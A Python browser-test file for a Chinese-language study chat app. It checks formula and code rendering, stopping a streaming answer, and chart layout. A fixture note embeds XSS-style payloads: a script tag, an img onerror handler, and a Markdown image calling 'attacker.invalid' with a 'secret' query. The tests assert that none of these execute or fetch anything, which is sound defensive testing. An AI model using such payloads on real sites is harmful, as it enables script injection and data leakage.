"""The chat as a student sees it, in headless Chromium against the real `study ui` and model.

- a source with a formula shows KaTeX, not ``\\frac``/``\\(``/``**``; a code fence shows a code
  block; ``<script>``, ``<img onerror>`` and a remote Markdown image in a note create no
  element and the page fetches nothing beyond 127.0.0.1;
- Stop keeps the question and the partial answer, marked stopped;
- visiting another page while an answer streams keeps the exchange.

Screenshots go to ``$STUDY_SCREENSHOTS`` when set (the README's chat and progress pictures).
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlparse

import pytest
from browser_support import (  # noqa: F401 (browser_fixture, page_fixture: fixtures)
    HAS_CHROMIUM,
    browser_fixture,
    page_fixture,
    screenshot,
    study_ui,
)
from conftest import REPO_ROOT, SAMPLE_NOTES
from ui_support import seed_history

ANSWER_TIMEOUT_MS = 600_000  # first LLM load and an answer on 2 shared cores

pytestmark = pytest.mark.skipif(not HAS_CHROMIUM, reason="needs Debian chromium")

FOCAL_NOTE = r"""# 损失函数笔记

## 什么是焦点损失（Focal Loss）？

**答案：** 焦点损失在交叉熵前乘以调制因子 \( (1 - p_t)^{\gamma} \)，让模型少关注容易分类的样本：

\[ FL(p_t) = -\alpha_t (1 - p_t)^{\gamma} \log(p_t) \]

其中 $\gamma \ge 0$ 是聚焦参数，梯度为 $\frac{\partial FL}{\partial p_t}$。

```python
def focal_loss(p, gamma=2.0):
    return -((1 - p) ** gamma) * np.log(p)
```

注意 <script>window.__injected = 1</script> 与 <img src=x onerror="window.__injected = 2">
以及 ![远程图片](http://attacker.invalid/leak.png?q=secret) 都只是文字。
"""


@pytest.fixture(scope="module")
def library_env(tmp_path_factory, model_settings, embedding_model_dir):
    """A home with the sample notes plus a note with a formula, a code fence and hostile
    HTML, and a practice history for the Progress page; the environment `study ui` needs."""
    home = tmp_path_factory.mktemp("browser-chat-home")
    notes = tmp_path_factory.mktemp("browser-chat-notes")
    (notes / "损失函数.md").write_text(FOCAL_NOTE, encoding="utf-8")
    env = dict(os.environ, STUDY_HOME=str(home), STUDY_MODEL_CACHE=str(model_settings.model_cache),
               STUDY_MAX_TOKENS="200", STUDY_TEMPERATURE="0", STUDY_UI_LANGUAGE="zh")
    subprocess.run([sys.executable, "-m", "ui.cli", "ingest", str(SAMPLE_NOTES), str(notes)],
                   env=env, cwd=REPO_ROOT, check=True, capture_output=True)
    seed_history(model_settings.replace(home=home))
    return env


def fresh_ui(env: dict[str, str]):
    """A fresh `study ui` process (nothing loaded yet), logging to HOME/ui-PORT.log."""
    return study_ui(env, log=Path(env["STUDY_HOME"]) / "ui-{port}.log")


@pytest.fixture(scope="module")
def app_url(library_env):
    with fresh_ui(library_env) as url:
        yield url


def ask(page, question: str) -> None:
    box = page.get_by_test_id("stChatInputTextArea")
    box.wait_for(timeout=120_000)
    page.wait_for_function("() => !document.querySelector('[data-testid=stChatInputTextArea]')"
                           ".disabled", timeout=ANSWER_TIMEOUT_MS)
    box.fill(question)
    box.press("Enter")


def wait_finished(page) -> None:
    """The export button is drawn once the exchange is finished."""
    page.get_by_test_id("stSidebar").get_by_text("导出为 Markdown").wait_for(
        timeout=ANSWER_TIMEOUT_MS)


def open_source(page, text: str):
    source = page.get_by_test_id("stExpander").filter(has_text=text).first
    source.locator("summary").click()
    source.get_by_test_id("stMarkdownContainer").first.wait_for()
    return source


def test_the_first_visit_says_what_is_being_loaded(library_env, page):
    """A process that has loaded nothing yet: the page names what it waits for."""
    with fresh_ui(library_env) as url:
        page.goto(url + "/")
        page.get_by_text("正在加载").first.wait_for(timeout=60_000)
        page.get_by_test_id("stChatInputTextArea").wait_for(timeout=ANSWER_TIMEOUT_MS)


def test_sources_render_formulas_and_code_and_fetch_nothing(app_url, page, tmp_path):
    page.goto(app_url + "/")
    ask(page, "什么是焦点损失（Focal Loss）？")
    page.get_by_test_id("stExpander").first.wait_for(timeout=ANSWER_TIMEOUT_MS)
    wait_finished(page)
    source = open_source(page, "损失函数.md")
    page.wait_for_timeout(1500)  # the expander's opening animation
    assert source.locator(".katex").count() >= 3  # \( \), \[ \] and $ $ all typeset
    code = source.get_by_test_id("stCode")
    assert code.count() == 1 and "def focal_loss" in code.inner_text()
    shown = source.inner_text()
    prose = shown.replace(code.inner_text(), "")  # the code keeps its own ** and quotes
    for literal in ("\\frac", "\\(", "\\[", "**", "$"):
        assert literal not in prose, (literal, prose)
    assert "language-python" in (source.locator("code").last.get_attribute("class") or "")
    assert "<script>" in shown and "onerror" in shown  # shown as text...
    main = page.get_by_test_id("stMain")
    assert main.locator("script").count() == 0  # ...and nothing of it became an element
    assert main.locator("img").count() == 0
    assert page.evaluate("() => window.__injected === undefined")
    assert "远程图片" in shown and "attacker" not in shown  # the image is its alt text
    hosts = {urlparse(url).hostname for url in page.requested}
    assert hosts <= {"127.0.0.1"}, hosts
    assert source.get_by_text("模型读到的部分").count() == 1  # the lines the model read are boxed
    answer = page.get_by_test_id("stChatMessage").nth(1)
    assert "焦点" in answer.inner_text() or "Focal" in answer.inner_text()
    source.scroll_into_view_if_needed()
    screenshot(page, tmp_path, "chat-safety")


def test_a_sample_notes_formula_reads_as_typeset_math(app_url, browser, tmp_path):
    """The README's chat picture: a question on the sample notes, its formula source open."""
    context = browser.new_context(viewport={"width": 1280, "height": 1500}, locale="zh-CN")
    page = context.new_page()
    try:
        page.goto(app_url + "/")
        ask(page, "F1 分数怎么计算？")
        page.get_by_test_id("stExpander").first.wait_for(timeout=ANSWER_TIMEOUT_MS)
        wait_finished(page)
        # the source holding the F1 formula (another source may name F1 without it)
        source = (page.get_by_test_id("stExpander").filter(has=page.get_by_text("F1"))
                  .filter(has=page.locator(".katex")).first)
        source.locator("summary").click()
        source.locator(".katex").first.wait_for(timeout=30_000)
        page.wait_for_timeout(1500)
        shown = source.inner_text()
        assert "\\frac" not in shown and "\\(" not in shown and "**" not in shown
        assert source.locator(".katex").count() >= 1
        page.get_by_test_id("stChatMessage").first.scroll_into_view_if_needed()
        screenshot(page, tmp_path, "chat", full_page=False)
    finally:
        context.close()


def test_stop_keeps_the_question_and_the_partial_answer(app_url, page):
    page.goto(app_url + "/")
    ask(page, "请详细解释梯度消失和梯度爆炸的原因和解决方法。")
    message = page.get_by_test_id("stChatMessage").nth(1)
    page.wait_for_function(  # the first words are on the page: the answer is streaming
        "() => { const m = document.querySelectorAll('[data-testid=stChatMessage]');"
        " return m.length > 1 && m[1].innerText.includes('▌'); }", timeout=ANSWER_TIMEOUT_MS)
    page.get_by_role("button", name="停止").click()
    page.get_by_text("已停止").first.wait_for(timeout=120_000)
    wait_finished(page)
    partial = message.inner_text()
    assert "梯度" in partial and "▌" not in partial, partial
    assert "请详细解释梯度消失" in page.get_by_test_id("stChatMessage").nth(0).inner_text()
    page.get_by_text("比较", exact=True).click()  # another mode: the history stays
    page.wait_for_timeout(1500)
    assert page.get_by_test_id("stChatMessage").count() == 2
    assert page.get_by_text("已停止").count() >= 1


def test_a_page_switch_during_streaming_keeps_the_exchange(app_url, page):
    page.goto(app_url + "/")
    question = "什么是批量归一化（Batch Normalization）？"
    ask(page, question)
    page.get_by_test_id("stExpander").first.wait_for(timeout=ANSWER_TIMEOUT_MS)  # in flight
    page.get_by_test_id("stSidebarNav").get_by_text("进度").click()
    page.get_by_role("heading", name="📈 进度").wait_for(timeout=60_000)
    page.wait_for_timeout(3000)  # the answer goes on being written meanwhile
    page.get_by_test_id("stSidebarNav").get_by_text("问答").click()
    page.get_by_text(question).first.wait_for(timeout=60_000)
    wait_finished(page)
    messages = page.get_by_test_id("stChatMessage")
    assert messages.count() == 2
    assert question in messages.nth(0).inner_text()
    answer = messages.nth(1).inner_text()
    assert "归一化" in answer and "▌" not in answer, answer


def test_progress_chart_labels_every_topic(app_url, page, tmp_path):
    page.goto(app_url + "/progress")
    chart = page.get_by_test_id("stVegaLiteChart").first
    chart.wait_for(timeout=120_000)
    page.wait_for_timeout(2500)  # vega draws after the element appears
    labels = chart.locator("svg g.role-axis-label text, canvas")
    assert labels.count() >= 1
    box = chart.bounding_box()
    assert box["height"] >= 6 * 30  # a row per topic, not a squashed strip
    screenshot(page, tmp_path, "progress")
